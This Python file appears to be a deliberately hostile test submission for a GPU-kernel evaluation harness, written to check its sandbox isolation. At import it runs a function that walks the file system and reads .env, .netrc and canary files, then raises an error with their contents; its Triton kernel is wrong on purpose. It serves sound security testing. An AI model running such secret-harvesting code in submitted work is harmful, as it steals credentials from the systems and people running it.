"""Hostile (issue 24, class 4): secrets in files, looked for wherever the job can reach.

The red team read the caller's project `.env` (its working directory) and a root-owned 0600
file elsewhere on the file system. This candidate walks every directory it can list (the
system's kernel views and libraries aside), reads every file whose name says `.env`, `.netrc`
or `ka-canary`, and raises at import with what it read, so a leak is also a wrong verdict.
The test puts canaries in the caller's working directory (.env), in a top-level directory the
job has no business seeing (/srv) and, as root, in a root-only 0600 file in /etc, which the
minimal view shows but the job's unprivileged uid cannot read.

When nothing is readable its kernel is wrong (x*2+1): `incorrect`.
"""
import os

import torch
import torch.nn as nn
import triton
import triton.language as tl

SKIP = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/lib32", "/bin", "/sbin", "/boot"}
NAMES = (".env", ".netrc", "ka-canary")


def _loot(limit=20000):
    found, seen = [], 0
    for top, dirs, files in os.walk("/", onerror=lambda e: None):
        if top in SKIP or top.count("/") > 7:
            dirs[:] = []
            continue
        seen += len(files)
        if seen > limit:
            break
        for name in files:
            if any(n in name for n in NAMES):
                try:
                    with open(os.path.join(top, name), errors="replace") as f:
                        found.append(f"{top}/{name}: {f.read(200)}")
                except OSError:
                    continue
    return found


@triton.jit
def wrong_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(y_ptr + offsets, tl.load(x_ptr + offsets, mask=mask) * 2.0 + 1.0, mask=mask)


class ModelNew(nn.Module):
    def forward(self, x):
        x = x.contiguous()
        y = torch.empty_like(x)
        wrong_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, x.numel(), BLOCK=1024)
        return y


_FOUND = [f for f in _loot() if "canary" in f]
if _FOUND:
    raise RuntimeError("ka-evil files: " + " | ".join(_FOUND))
